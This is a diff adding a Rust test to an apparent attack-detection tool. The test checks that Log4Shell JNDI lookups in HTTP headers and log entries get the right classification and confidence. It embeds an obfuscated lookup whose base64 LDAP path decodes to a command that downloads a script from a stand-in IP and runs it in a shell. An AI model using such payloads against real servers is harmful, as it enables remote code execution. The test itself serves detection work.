@@ -5519,3 +5519,18 @@ fn climbs_out_of_a_web_root_and_short_names() {
         assert!(top_call(tool, p, Family::PathTraversal).is_none_or(|c| c < Confidence::Medium), "{p}");
     }
 }
+
+/// A live Log4Shell lookup whose LDAP path carries a base64 command
+/// (JNDIExploit's `/Basic/Command/Base64/...`) makes the victim run it: a
+/// shell injection beside the lookup. A lookup with no command in its path
+/// is the template finding alone; one defanged in a log record is neither.
+#[test]
+fn jndi_lookups_that_carry_a_command() {
+    let attack = json!({"headers": {"User-Agent": "${${lower:j}ndi:${lower:l}dap://203.0.113.99:1389/Basic/Command/Base64/Y3VybCAyMDMuMC4xMTMuOTkvbHxzaA==}"}});
+    assert_eq!(top_call("http.request", &attack, Family::ShellInjection), Some(Confidence::High));
+    assert_eq!(top_call("http.request", &attack, Family::TemplateInjection), Some(Confidence::High));
+    let plain = json!({"headers": {"User-Agent": "${jndi:ldap://203.0.113.99:1389/Basic/TomcatEcho}"}});
+    assert_eq!(top_call("http.request", &plain, Family::ShellInjection), None);
+    let defanged = json!({"entry": "2024-11-18T09:12:44Z WARN waf blocked User-Agent: ${jndi:ldap://45.155.205[.]233:12344/Basic/Command/Base64/Y3VybCAyMDMuMC4xMTMuOTkvbHxzaA==}"});
+    assert!(top_call("logs.annotate", &defanged, Family::ShellInjection).is_none_or(|c| c < Confidence::Medium));
+}
